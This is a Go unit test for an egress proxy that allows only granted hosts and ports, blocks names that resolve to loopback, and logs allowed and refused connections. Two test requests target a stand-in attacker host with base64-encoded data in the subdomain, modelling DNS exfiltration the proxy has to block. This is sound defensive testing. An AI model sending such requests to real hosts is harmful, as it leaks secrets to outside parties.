package egress

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/bulkhead-dev/bulkhead/backend/catalog"
)

// lookups records the names the proxy resolved, and resolves as the system does.
type lookups struct {
	mu    sync.Mutex
	names []string
}

func (l *lookups) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	l.mu.Lock()
	l.names = append(l.names, host)
	l.mu.Unlock()
	return net.DefaultResolver.LookupNetIP(ctx, network, host)
}

func hostPort(t *testing.T, rawURL string) catalog.HostPort {
	u, _ := url.Parse(rawURL)
	hp, err := catalog.ParseHostPort(u.Host)
	if err != nil {
		t.Fatal(err)
	}
	return hp
}

func TestProxyPassesOnlyGrantedDestinations(t *testing.T) {
	granted := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "granted") }))
	defer granted.Close()
	secure := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "secure") }))
	defer secure.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "other") }))
	defer other.Close()

	g, s := hostPort(t, granted.URL), hostPort(t, secure.URL)
	byName := catalog.HostPort{Host: "localhost", Port: g.Port}
	var events []Event
	p := New([]catalog.HostPort{g, s, byName}, func(e Event) { events = append(events, e) })
	names := &lookups{}
	p.resolver = names
	srv := httptest.NewServer(p)
	defer srv.Close()
	proxyURL, _ := url.Parse(srv.URL)
	pool := secure.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs
	c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL), TLSClientConfig: &tls.Config{RootCAs: pool}}}

	get := func(u string) (int, string) {
		resp, err := c.Get(u)
		if err != nil {
			return 0, err.Error()
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	if code, body := get(granted.URL); code != 200 || body != "granted" {
		t.Errorf("granted http: %d %q", code, body)
	}
	if code, body := get(secure.URL); code != 200 || body != "secure" {
		t.Errorf("granted https through CONNECT: %d %q", code, body)
	}
	if code, body := get(other.URL); code != 403 || !strings.Contains(body, "is not granted to this server") {
		t.Errorf("ungranted port: %d %q", code, body)
	}
	// A granted name that resolves to loopback is refused: only an address
	// granted as such may be private.
	if code, body := get(strings.Replace(granted.URL, "127.0.0.1", "localhost", 1)); code != 403 || !strings.Contains(body, "a loopback address") {
		t.Errorf("name resolving to loopback: %d %q", code, body)
	}
	// An ungranted name is refused before any lookup: no DNS exfiltration.
	if code, _ := get("https://c2VjcmV0.attacker.example:443/"); code != 0 {
		t.Errorf("ungranted name over CONNECT answered %d", code)
	}
	if code, _ := get("http://c2VjcmV0.attacker.example/"); code != 403 {
		t.Errorf("ungranted name over http: %d", code)
	}
	if len(names.names) != 1 || names.names[0] != "localhost" {
		t.Errorf("names looked up: %v, want only the granted localhost", names.names)
	}

	var allowed, refused int
	for _, e := range events {
		if e.Allowed {
			allowed++
			if e.Address == "" {
				t.Errorf("allowed event without the address dialed: %+v", e)
			}
		} else {
			refused++
			if e.Reason == "" {
				t.Errorf("refused event without a reason: %+v", e)
			}
		}
	}
	if allowed != 2 || refused != 4 {
		t.Errorf("events: %d allowed, %d refused, want 2 and 4: %+v", allowed, refused, events)
	}
}
